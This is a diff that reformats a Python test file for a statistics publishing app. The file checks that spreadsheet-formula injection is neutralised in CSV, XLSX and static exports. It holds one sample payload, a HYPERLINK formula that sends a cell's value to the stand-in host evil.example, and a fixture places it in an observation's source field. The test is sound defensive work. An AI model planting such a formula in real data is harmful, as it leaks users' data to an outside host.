@@ -27,8 +27,11 @@ EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"点击")'
 def _file_text(path) -> str:
     if path.suffix == ".xlsx":
         book = load_workbook(path)
-        return "\n".join(",".join("" if c is None else str(c) for c in row)
-                         for sheet in book.worksheets for row in sheet.iter_rows(values_only=True))
+        return "\n".join(
+            ",".join("" if c is None else str(c) for c in row)
+            for sheet in book.worksheets
+            for row in sheet.iter_rows(values_only=True)
+        )
     if path.suffix in (".html", ".csv", ".js", ".css", ".svg", ".json", ".txt"):
         return path.read_text("utf-8")
     return ""
@@ -50,11 +53,19 @@ def test_the_static_export_holds_no_internal_note_comment_or_unpublished_value(s
 @pytest.fixture
 def evil_source(cast, assignments, small_plan, reference_data):
     """A published 于都县 2023 figure (240.5) whose source is a formula, as someone might type it."""
-    obs = services.create_draft(user=cast.yudu, reason="填报", indicator=indicator(small_plan, "I01"),
-                                region=reference_data.regions["于都县"], year=2023, value=240.5, source=EVIL,
-                                note="+1 见附件")
-    obs = services.approve_observation(services.submit_observation(obs, user=cast.yudu), user=cast.reviewer,
-                                       comment="-核对无误")
+    obs = services.create_draft(
+        user=cast.yudu,
+        reason="填报",
+        indicator=indicator(small_plan, "I01"),
+        region=reference_data.regions["于都县"],
+        year=2023,
+        value=240.5,
+        source=EVIL,
+        note="+1 见附件",
+    )
+    obs = services.approve_observation(
+        services.submit_observation(obs, user=cast.yudu), user=cast.reviewer, comment="-核对无误"
+    )
     return services.publish_observation(obs, user=cast.reviewer)
 
 
@@ -81,19 +92,27 @@ DOWNLOADS = [
 
 
 @pytest.mark.parametrize(("role", "url", "fmt", "escaped"), DOWNLOADS)
-def test_a_formula_typed_as_a_source_stays_text_in_every_download(role, url, fmt, escaped, evil_source, cast,
-                                                                  client_for, anonymous_client):
+def test_a_formula_typed_as_a_source_stays_text_in_every_download(
+    role, url, fmt, escaped, evil_source, cast, client_for, anonymous_client
+):
     client = anonymous_client if role == "anonymous" else client_for(getattr(cast, role))
     response = client.get(url)
     assert response.status_code == 200
     cells = _cells(response.content, fmt)
     assert escaped in [value for value, _ in cells], cells[:40]
-    live = [value for value, kind in cells if kind == "f" or value.startswith(("=", "+", "@"))
-            or (value.startswith("-") and not _is_number(value))]
+    live = [
+        value
+        for value, kind in cells
+        if kind == "f"
+        or value.startswith(("=", "+", "@"))
+        or (value.startswith("-") and not _is_number(value))
+    ]
     assert live == []
     if fmt == "xlsx":
         with zipfile.ZipFile(io.BytesIO(response.content)) as book:
-            assert all(b"<f>" not in book.read(name) for name in book.namelist() if name.startswith("xl/worksheets/"))
+            assert all(
+                b"<f>" not in book.read(name) for name in book.namelist() if name.startswith("xl/worksheets/")
+            )
 
 
 def test_the_static_exports_downloads_keep_the_formula_inert(evil_source, tmp_path):
